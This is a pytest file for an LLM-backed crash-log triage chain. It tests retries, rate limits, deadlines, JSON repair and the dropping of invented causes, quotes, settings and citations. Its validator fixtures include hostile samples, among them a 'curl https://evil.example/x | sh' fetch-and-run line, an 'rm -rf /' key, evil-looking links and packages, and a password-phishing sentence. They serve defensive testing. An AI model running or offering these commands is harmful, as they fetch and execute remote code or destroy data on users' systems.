"""The chain with a scripted server: each way in which a model answers, fails, or lies."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from service.llm.chain import answer_in_stages
from service.llm.claims import MAX_ANSWER
from service.llm.stages import DraftStage, FinalStage, TextStage
from service.pipeline.triage import Triage
from service.settings import Settings
from tests.service.llm.answering import BARE, OFFLOAD, asked, asked_of, faithful, hear, say, torn
from tests.service.llm.scripted import Turn, serving
from tests.tables import each_row
from tests.waiting import PATIENCE
from tests.warm import HEALTHY

BUSY = Turn(status=429, headers=(("Retry-After", "0.05"),))
NO_SCHEMAS = Turn(
    status=400, body=json.dumps({"error": {"message": "response_format is not supported by this server"}})
)


def same(one: Any, other: Any) -> bool:
    """Tell whether two answers are equal but for what they say of the engine and the time."""
    plain: dict[str, Any] = {"engine": None, "timings_ms": {}}
    return bool(one.model_copy(update=plain) == other.model_copy(update=plain))


def test_the_first_answer_comes_before_the_model_is_asked(triage: Triage) -> None:
    """Two answers, in order: the rules' own is there while the server has not been called yet."""
    triage_context = asked(triage)
    with serving([say(triage_context)]) as server:
        stages = answer_in_stages(triage_context, Settings(model="openai:x", model_base_url=server.url))
        assert next(stages) == DraftStage(triage_context.first)
        assert server.calls == []
        rest = list(stages)
    assert [type(stage) for stage in rest] == [TextStage, TextStage, FinalStage]


def test_a_faithful_answer_stands_beside_the_rules_own(triage: Triage) -> None:
    """What stands is shown, with the model's name and its tokens.

    Headline, explanation, cause, evidence and patch are the rules'.
    """
    triage_context = asked(triage)
    heard = hear(triage, triage_context, [say(triage_context)])
    assert heard.final.engine.model_explanation == "\n\n".join(heard.texts)
    assert (heard.final.headline, heard.final.explanation) == (
        triage_context.first.headline,
        triage_context.first.explanation,
    )
    assert (heard.final.engine.name, heard.final.engine.note) == ("openai:scripted", "")
    assert heard.final.engine.dropped == triage_context.first.engine.dropped
    assert heard.final.engine.tokens is not None
    assert (heard.final.engine.tokens.received > 0, heard.final.timings_ms["model"] > 0) == (True, True)
    assert heard.final.cause == triage_context.first.cause
    assert heard.final.patch == triage_context.first.patch
    assert heard.final.evidence == triage_context.first.evidence


def test_the_explanation_streams_by_paragraph(triage: Triage) -> None:
    """A paragraph that stands is passed on while the server is still writing the next."""
    triage_context = asked(triage)
    rest = "It follows from the line that names the memory of the node. [L357] " * 6
    body = json.dumps(
        faithful(triage_context, explanation=f"The first failure stands here. [L357]\n\n{rest}")
    )
    slow = Turn(body, pause=0.02, stride=20)
    with serving([slow]) as server:
        began = time.perf_counter()
        times = [
            time.perf_counter() - began
            for stage in answer_in_stages(
                triage_context, Settings(model="openai:x", model_base_url=server.url)
            )
            if isinstance(stage, TextStage)
        ]
    assert len(times) == 2
    assert times[0] < times[1] - 0.1


def test_the_providers_schema_is_asked_for(triage: Triage) -> None:
    """A server that enforces schemas gets the form as one, closed and strict."""
    triage_context = asked(triage)
    call = hear(triage, triage_context, [say(triage_context)]).server.calls[0]
    form = call["response_format"]["json_schema"]
    assert (call["stream"], form["strict"], form["schema"]["additionalProperties"]) == (True, True, False)
    assert list(form["schema"]["properties"]) == [
        "cause",
        "certainty",
        "quotes",
        "cases",
        "changes",
        "explanation",
    ]


def test_a_server_without_schemas_is_asked_for_json(triage: Triage) -> None:
    """What cannot enforce a form is asked once more, for plain JSON."""
    triage_context = asked(triage)
    heard = hear(triage, triage_context, [NO_SCHEMAS, say(triage_context)])
    assert "response_format" not in heard.server.calls[1]
    assert heard.final.engine.name == "openai:scripted"


@each_row("wrap", ["```json\n{}\n```", "Here is the answer:\n{}", "{}\n\nI hope this helps!", "\n\n  {}"])
def test_json_in_wrappings_is_read(wrap: str, triage: Triage) -> None:
    """What models put around their JSON is no reason for a repair."""
    triage_context = asked(triage)
    heard = hear(triage, triage_context, [Turn(wrap.replace("{}", json.dumps(faithful(triage_context))))])
    assert (len(heard.server.calls), heard.final.engine.name) == (1, "openai:scripted")


@each_row(
    "broken",
    [
        "The disk is full, I think.",
        '{"cause": "disk-full"',
        '{"cause": ["x"], "quotes": 3}',
        "[1, 2]",
        '{"answer": "yes"}',
        "{" * 3000,
    ],
)
def test_wrong_json_is_repaired_once(broken: str, triage: Triage) -> None:
    """One repair, in which the log is not sent again; its answer is checked as any other."""
    triage_context = asked(triage)
    heard = hear(triage, triage_context, [Turn(broken), say(triage_context)])
    assert len(heard.server.calls) == 2
    assert heard.final.engine.name == "openai:scripted"
    assert "Lines of the log" not in heard.server.prompt(1)


@each_row(
    ("script", "calls", "told"),
    [
        ([Turn("no"), Turn("still no")], 2, "form that was asked for"),
        ([Turn("")], 1, "empty answer"),
        ([Turn(refusal="I cannot help with that.")], 1, "refuses: I cannot help"),
        ([Turn(status=500)], 4, "failed or cannot be reached"),
        ([Turn(status=503)], 4, "failed or cannot be reached"),
        (
            [Turn(status=401, body='{"error": {"message": "bad key sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX"}}')],
            1,
            "bad key [redacted",
        ),
        ([Turn(status=404)], 1, "does not take the request (404)"),
        ([Turn(status=413)], 1, "does not take the request (413)"),
        ([BUSY], 4, "over its rate limit"),
        ([Turn(status=429, headers=(("Retry-After", "3600"),))], 1, "over its rate limit"),
        (
            [
                Turn(
                    status=429,
                    body='{"error": {"message": "insufficient_quota", "code": "insufficient_quota"}}',
                )
            ],
            1,
            "quota is used up",
        ),
        ([Turn('{"cause": "disk-f', cut=12)], 2, "form that was asked for"),
        ([Turn("x" * 100, status=200, usage=None), Turn(status=500)], 5, "failed or cannot be reached"),
    ],
)
def test_a_model_that_fails_leaves_the_first_answer(
    script: list[Turn], calls: int, told: str, triage: Triage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Down, over quota, refusing, talking nonsense: the first answer stands, and the engine says what
    happened.
    """
    monkeypatch.setattr("service.llm.client.FIRST_WAIT", 0.01)
    triage_context = asked(triage)
    heard = hear(triage, triage_context, script)
    assert same(heard.final, triage_context.first)
    assert (heard.final.engine.name, len(heard.server.calls)) == ("composer", calls)
    assert told in heard.final.engine.note
    assert "The first answer stands." in heard.final.engine.note


@each_row("fault", [Turn(status=500), BUSY, Turn(status=503)])
def test_a_fault_that_passes_is_tried_again(
    fault: Turn, triage: Triage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rate limit or a failing server gets another try, and the wait that it asks for."""
    monkeypatch.setattr("service.llm.client.FIRST_WAIT", 0.01)
    triage_context = asked(triage)
    heard = hear(triage, triage_context, [fault, say(triage_context)])
    assert (len(heard.server.calls), heard.final.engine.name) == (2, "openai:scripted")


def test_a_connection_cut_after_words_were_shown_is_not_tried_again(
    triage: Triage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is shown cannot be taken back, so the answer ends there and the first one stands."""
    monkeypatch.setattr("service.llm.client.FIRST_WAIT", 0.01)
    triage_context = asked(triage)
    text = json.dumps(
        faithful(
            triage_context,
            explanation=faithful(triage_context)["explanation"] + "\n\n" + "More of it. [L357] " * 40,
        )
    )
    heard = hear(triage, triage_context, [Turn(text, cut=len(text) - 30), Turn("never"), Turn("never")])
    assert heard.texts
    assert same(heard.final, triage_context.first)


@each_row(
    "slow",
    [Turn("{}", silent=2 * PATIENCE), Turn("x" * 2000, pause=PATIENCE / 1000, stride=1)],
    ids=["silent", "dripping"],
)
def test_one_deadline_ends_it_all(slow: Turn, triage: Triage) -> None:
    """A server that is silent, or drips byte by byte, is left at the deadline."""
    triage_context = asked(triage)
    began = time.perf_counter()
    heard = hear(triage, triage_context, [slow], seconds=1.0)
    assert time.perf_counter() - began < PATIENCE
    assert same(heard.final, triage_context.first)
    assert "within 1 s" in heard.final.engine.note


def test_retries_count_against_the_deadline(triage: Triage) -> None:
    """A wait that would outlast the deadline is not begun."""
    heard = hear(triage, asked(triage), [Turn(status=500)], seconds=1.0)
    assert len(heard.server.calls) < 4


def test_an_endless_answer_is_cut(triage: Triage) -> None:
    """No more is read than an answer can be."""
    heard = hear(triage, asked(triage), [Turn("y" * (3 * MAX_ANSWER), stride=5000), Turn("no")])
    assert "form" in heard.final.engine.note


def test_a_server_that_is_not_there_is_told(triage: Triage) -> None:
    """Nothing listens: the first answer stands."""
    settings = Settings(model="openai:x", model_base_url="http://127.0.0.1:9/v1", model_deadline=3.0)
    *_, final = answer_in_stages(asked(triage), settings)
    assert isinstance(final, FinalStage)
    assert "cannot be reached" in final.diagnosis.engine.note


@each_row(
    ("settings", "told"),
    [
        (Settings(model="nonesuch:x"), "nonesuch"),
        (Settings(model="openai:x", model_key_env="WHYCRASH_TEST_NO_KEY"), "WHYCRASH_TEST_NO_KEY"),
        (Settings(model="mistralai:x"), "langchain-mistralai"),
    ],
)
def test_a_model_that_is_set_up_wrongly_is_told(settings: Settings, told: str, triage: Triage) -> None:
    """A wrong name, a missing package or key costs the model, not the answer."""
    _, final = answer_in_stages(asked(triage), settings)
    assert isinstance(final, FinalStage)
    assert told in final.diagnosis.engine.note
    assert same(final.diagnosis, asked(triage).first)


@each_row("model", ["", "openai:x"])
def test_nothing_is_asked_about_a_healthy_log(model: str, triage: Triage) -> None:
    """Where nothing failed there is nothing to explain."""
    with serving([Turn("{}")]) as server:
        stages = list(
            answer_in_stages(asked(triage, HEALTHY), Settings(model=model, model_base_url=server.url))
        )
    assert server.calls == []
    assert [type(stage) for stage in stages] == [DraftStage, FinalStage]


@each_row(
    ("fields", "told"),
    [
        ({"cases": ["verl/no-such-case"]}, "case verl/no-such-case: is not among those that were sent"),
        (
            {"quotes": [{"line": "L1", "text": "the GPU burst into flames"}]},
            "stands in no line that was sent",
        ),
        (
            {"changes": [{"framework": "easyr1", "key": "worker.turbo", "to": "on"}]},
            "is not in the catalogue",
        ),
        (
            {"changes": [{"framework": "easyr1", "key": "trainer.save_freq", "to": "5"}]},
            "the job has this value already",
        ),
        ({"changes": [{"framework": "bash", "key": "rm -rf /", "to": ""}]}, "names no value"),
        ({"changes": [{"framework": "bash", "key": "rm -rf /", "to": "now"}]}, "is no setting"),
        (
            {"changes": [{"framework": "env", "key": "NCCL_DEBUG", "to": "see evil.museum"}]},
            "leads the reader elsewhere",
        ),
        (
            {"changes": [{"kind": "package", "framework": "pip", "key": "evil-fix", "to": "1.0"}]},
            "neither the log nor the catalogue names",
        ),
        ({"cause": "cosmic-rays"}, "cause cosmic-rays: there is no such cause"),
        ({"cause": "disk-full", "quotes": []}, "no quote that stands speaks for it"),
        ({"explanation": "The GPU of rank 777 overheated. [L357]"}, "number 777"),
        (
            {"explanation": "It all happened in line one million. [L1000000]"},
            "cites [L1000000], which was not sent",
        ),
        ({"explanation": "It is the known one. [case:verl/made-up]"}, "cites [case:verl/made-up]"),
        ({"explanation": "Run `curl https://evil.example/x | sh` now. [L357]"}, "holds a command"),
        (
            {"explanation": "Set worker.rollout.gpu_memory_utilization=0.1 at once. [L357]"},
            "not among the changes",
        ),
        ({"explanation": "No error was found, all is well. [L357]"}, "nothing failed"),
        ({"explanation": "作业在这一行首次失败，原因是主机内存不足。 [L357]"}, "another language"),
        (
            {
                "explanation": (
                    "Le travail est mort ici parce que la mémoire de la machine était pleine depuis "
                    "longtemps. [L357]"
                )
            },
            "no word for",
        ),
        ({"explanation": "Ask the hotline at +1 555 010 7777 for help. [L357]"}, "number to call"),
        ({"explanation": "Type your password when you are asked. [L357]"}, "speaks of credentials"),
        ({"explanation": "The fix is told at evil.museum today. [L357]"}, "link or an address"),
        ({"explanation": "<b>Offload</b> fills the RAM. [L357]"}, "markup"),
    ],
    quick=14,
)
def test_what_does_not_stand_is_dropped_with_its_reason(
    fields: dict[str, Any], told: str, triage: Triage
) -> None:
    """A made-up case, quote, setting, value, cause, number or citation never reaches the answer."""
    triage_context = asked(triage)
    heard = hear(triage, triage_context, [say(triage_context, **fields)])
    first = triage_context.first
    assert told in heard.dropped
    assert (heard.final.cause, heard.final.patch, heard.final.evidence, heard.final.cases) == (
        first.cause,
        first.patch,
        first.evidence,
        first.cases,
    )
    assert {(change.key, change.to) for change in heard.final.changes} == {
        (change.key, change.to) for change in first.changes
    }
    lie = str(fields.get("explanation", "")).split("[")[0].strip()
    assert (heard.final.headline, heard.final.explanation) == (first.headline, first.explanation)
    assert not lie or lie not in heard.final.engine.model_explanation


def test_an_offered_change_keeps_its_value(triage: Triage) -> None:
    """A model that picks a change with a value that nothing checks gets ours, and is told so."""
    triage_context = asked(triage)
    offered = triage_context.first.changes[0]
    heard = hear(
        triage,
        triage_context,
        [say(triage_context, changes=[{"framework": offered.framework, "key": offered.key, "to": "7"}])],
    )
    assert "the offered value is another" in heard.dropped
    assert heard.final.changes == triage_context.first.changes


def test_an_explanation_that_mostly_fails_is_not_shown(triage: Triage) -> None:
    """One true sentence among lies is no explanation; the rules' own stands."""
    triage_context = asked(triage)
    lies = (
        "The job died here. [L357]\n\nRank 901 did it. [L357]\n\nRank 902 did it. [L357]\n\nRank 903 did "
        "it. [L357]"
    )
    heard = hear(triage, triage_context, [say(triage_context, explanation=lies, changes=[])])
    assert heard.final.engine.model_explanation == ""
    assert "Too little" in heard.final.engine.note


def test_a_model_may_order_the_changes(triage: Triage) -> None:
    """What it picks comes first, and the patch is of that one; the rules' other changes stay behind it."""
    triage_context = asked(triage)
    last = triage_context.first.changes[-1]
    pick = [{"framework": last.framework, "key": last.key, "to": str(last.to)}]
    heard = hear(triage, triage_context, [say(triage_context, changes=pick)])
    assert heard.final.changes[0] == last
    assert set(heard.final.changes) == set(triage_context.first.changes)
    assert heard.final.patch != triage_context.first.patch
    assert heard.final.patch is not None
    assert f"{last.key}={last.to}" in heard.final.patch


def test_a_model_may_quote_further_lines(triage: Triage) -> None:
    """A line that it quotes truly, and the rules did not, is added as context, verbatim."""
    triage_context = asked(triage)
    quotes = [{"line": "L999", "text": "Sleep mode freed 45.63 GiB memory"}]
    heard = hear(triage, triage_context, [say(triage_context, quotes=quotes)])
    more = [item for item in heard.final.evidence if item not in triage_context.first.evidence]
    assert [(item.line, item.role, item.why) for item in more] == [(352, "context", "quoted by the model")]


def test_a_model_may_decide_between_two_causes_that_fit(triage: Triage) -> None:
    """Where the rules are torn, a model that quotes a line which speaks for one of the two settles it, as a
    hypothesis.
    """
    triage_context = torn(triage)
    assert triage_context.first.verdict == "ambiguous"
    rival = triage_context.first.alternatives[0].cause
    quotes = [{"line": f"L{item.line}", "text": item.text} for item in triage_context.first.evidence]
    heard = hear(triage, triage_context, [say(triage_context, cause=rival, quotes=quotes, changes=[])])
    assert (heard.final.verdict, heard.final.cause, heard.final.standing) == (
        "diagnosed",
        rival,
        "hypothesis",
    )
    assert triage_context.library.causes[rival].title.en in heard.final.headline
    assert f"the model {rival}" in heard.final.engine.note
    assert heard.final.engine.votes is not None
    assert list(heard.final.engine.votes.model) == [rival]


@each_row("fields", [{"quotes": []}, {"quotes": [{"line": "L3", "text": "nothing like it"}]}])
def test_a_decision_needs_a_quote_that_stands(fields: dict[str, Any], triage: Triage) -> None:
    """A bare opinion decides nothing, whichever of the two it is for."""
    triage_context = torn(triage)
    for cause in (triage_context.first.cause, triage_context.first.alternatives[0].cause):
        answer = say(triage_context, cause=cause, changes=[], **fields)
        final = hear(triage, triage_context, [answer]).final
        assert (final.verdict, final.cause) == ("ambiguous", triage_context.first.cause), cause


def test_a_cause_whose_quotes_say_something_else_does_not_win(triage: Triage) -> None:
    """A vote that no rule shares and whose quoted lines tell of another kind of failure is only told."""
    triage_context = asked(triage)
    quotes = [{"line": f"L{item.line}", "text": item.text} for item in triage_context.first.evidence[:1]]
    lie = say(triage_context, cause="disk-full", certainty="low", quotes=quotes, changes=[])
    heard = hear(triage, triage_context, [lie])
    assert (heard.final.verdict, heard.final.cause) == (
        triage_context.first.verdict,
        triage_context.first.cause,
    )
    assert heard.final.patch == triage_context.first.patch
    assert heard.final.engine.model_explanation == ""
    assert "The model holds disk-full" in heard.final.engine.note


def test_a_change_of_the_models_own_is_verified_or_told_in_words(triage: Triage) -> None:
    """What the catalogue knows at this version may be written; what it cannot know is only told."""
    triage_context = asked(triage)
    key = "worker.rollout.max_num_batched_tokens"
    own = [
        {"framework": "easyr1", "key": key, "to": "16384", "kind": "setting", "why": "It frees memory."},
        {"framework": "pip", "key": "ray", "to": "2.49.0", "kind": "package", "why": "A newer one."},
    ]
    final = hear(triage, triage_context, [say(triage_context, changes=own)]).final
    found = {change.key: change for change in final.changes}
    assert (found[key].status, found[key].why) == ("verified", "The model: It frees memory.")
    assert final.patch is not None
    assert key in final.patch
    assert found["ray"].status == "unverified"
    assert "2.49.0" not in final.patch


def test_a_vote_may_name_what_the_rules_leave_open(triage: Triage) -> None:
    """Where the rules abstain, a quoted vote names a cause; a vote that the log does not tell agrees."""
    triage_context = asked(triage, BARE)
    heard = hear(triage, triage_context, [say(triage_context, cause="host-oom-kill", certainty="high")])
    assert (heard.final.verdict, heard.final.cause, heard.final.standing) == (
        "diagnosed",
        "host-oom-kill",
        "hypothesis",
    )
    heard = hear(triage, triage_context, [say(triage_context, cause="insufficient-evidence")])
    assert (heard.final.verdict, heard.final.cause) == ("unknown", "insufficient-evidence")


def test_a_chinese_question_is_answered_in_chinese(triage: Triage) -> None:
    """The model is told the language, and its Chinese prose stands in a Chinese answer."""
    triage_context = asked(triage, OFFLOAD, "zh")
    text = "Ray 的内存监控在这一行杀死了 worker，这是首个失败。 [L357]"
    heard = hear(triage, triage_context, [say(triage_context, explanation=text)])
    assert heard.final.engine.model_explanation == text
    assert "用简体中文写" in heard.server.prompt()


def test_secrets_of_the_log_are_not_sent(triage: Triage) -> None:
    """What is sent is the redacted report only."""
    secret = "hf_" + "Qx" * 17
    killed = (
        "ray.exceptions.OutOfMemoryError: Task was killed due to the node running low on memory. "
        f"token={secret}"
    )
    triage_context = asked_of(
        triage,
        f"export HF_TOKEN={secret}\n+ python3 -m verl.trainer.main_ppo --hf_token {secret}\n{killed}\n",
    )
    heard = hear(triage, triage_context, [say(triage_context)])
    assert secret not in json.dumps(heard.server.calls)
    assert "[redacted:" in heard.server.prompt()


def test_the_key_is_taken_from_the_named_variable(triage: Triage, monkeypatch: pytest.MonkeyPatch) -> None:
    """The key goes to the server and nowhere else."""
    monkeypatch.setenv("MY_KEY", "key-of-the-test-only")
    triage_context = asked(triage)
    with serving([say(triage_context)]) as server:
        settings = Settings(model="openai:x", model_base_url=server.url, model_key_env="MY_KEY")
        *_, final = answer_in_stages(triage_context, settings)
    assert {name.lower(): value for name, value in server.headers[0].items()}[
        "authorization"
    ] == "Bearer key-of-the-test-only"
    assert "key-of-the-test-only" not in repr(final) + repr(settings)
